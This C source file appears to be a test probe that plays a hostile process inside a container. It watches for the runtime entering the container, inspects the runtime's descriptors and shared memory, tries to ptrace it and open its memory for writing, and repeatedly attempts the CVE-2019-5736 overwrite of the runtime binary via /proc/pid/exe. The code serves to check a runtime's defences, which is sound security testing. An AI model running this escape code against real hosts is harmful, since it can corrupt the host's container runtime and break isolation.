/* What a hostile program in a container does while somebody enters it: look at every process that appears, and take hold of
 * one that still is the runtime's.  A line for each thing that it could do:
 *
 *   SEEN name       a process that is not yet what it was entered for
 *   FD link         one of its descriptors        MAP line      a part of its memory that it shares
 *   MEM             its memory, open for writing  TRACED        it stopped for us
 *   EXE             what it runs from, found   WRITTEN       the file has been changed
 *   OWN             of its own child, as a proof that this would work: all that TRACED takes */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

/* Whether it still runs the runtime's program; not to be known of one that is out of reach. */
static int is_the_runtime(const char *pid)
{
    char path[64], link[64] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    return readlink(path, link, sizeof link - 1) > 0 && !strncmp(link, "/memfd:", 7);
}

static void show_links(const char *pid)
{
    char path[320], link[256];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *all = opendir(path);
    for (struct dirent *each; all && (each = readdir(all));) {
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, each->d_name);
        ssize_t length = readlink(path, link, sizeof link - 1);
        if (length > 0)
            printf("FD %s %.*s\n", each->d_name, (int)length, link);
    }
    if (all)
        closedir(all);
}

static void show_shared(const char *pid)
{
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%s/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "s 00000000") || strstr(line, "w-s"))
            printf("MAP %s", line);
    if (maps)
        fclose(maps);
}

static void overwrite(const char *pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int held = open(path, O_PATH);
    if (held < 0)
        return;
    if (!is_the_runtime(pid)) {
        close(held);
        return;
    }
    puts("EXE");
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int tries = 0; tries < 50; tries++) { /* also when nobody runs it any more (CVE-2019-5736) */
        int fd = open(path, O_WRONLY);
        if (fd >= 0 && write(fd, "x", 1) == 1)
            puts("WRITTEN");
        if (fd >= 0)
            close(fd);
        usleep(200);
    }
    close(held);
}

/* Stop it; whether that worked, and it was not only its program, which is the container's own. */
static int trace(pid_t pid, int own)
{
    char number[12];
    int status;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0))
        return 0;
    waitpid(pid, &status, __WALL);
    snprintf(number, sizeof number, "%d", pid);
    int reached = own || is_the_runtime(number);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return reached;
}

int main(int argc, char **argv)
{
    (void)argc;
    int reach = strcmp(argv[1], "trace") == 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    pid_t own = fork();
    if (own == 0)
        for (;;)
            pause();
    if (trace(own, 1))
        puts("OWN");
    kill(own, SIGKILL);
    waitpid(own, NULL, 0);
    puts("ready");
    for (;;) {
        DIR *all = opendir("/proc");
        for (struct dirent *each; (each = readdir(all));) {
            char path[320], name[64] = "";
            if (each->d_name[0] < '1' || each->d_name[0] > '9' || atoi(each->d_name) == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%s/comm", each->d_name);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            ssize_t length = read(fd, name, sizeof name - 1);
            close(fd);
            if (length <= 0 || !strcmp(name, "sleep\n") || !strcmp(name, "sh\n") || !strcmp(name, "true\n"))
                continue;
            printf("SEEN %s", name);
            if (is_the_runtime(each->d_name)) {
                show_links(each->d_name);
                show_shared(each->d_name);
            }
            snprintf(path, sizeof path, "/proc/%s/mem", each->d_name);
            if ((fd = open(path, O_RDWR)) >= 0) {
                if (is_the_runtime(each->d_name))
                    puts("MEM");
                close(fd);
            }
            if (reach && trace(atoi(each->d_name), 0))
                puts("TRACED");
            overwrite(each->d_name);
        }
        closedir(all);
    }
}
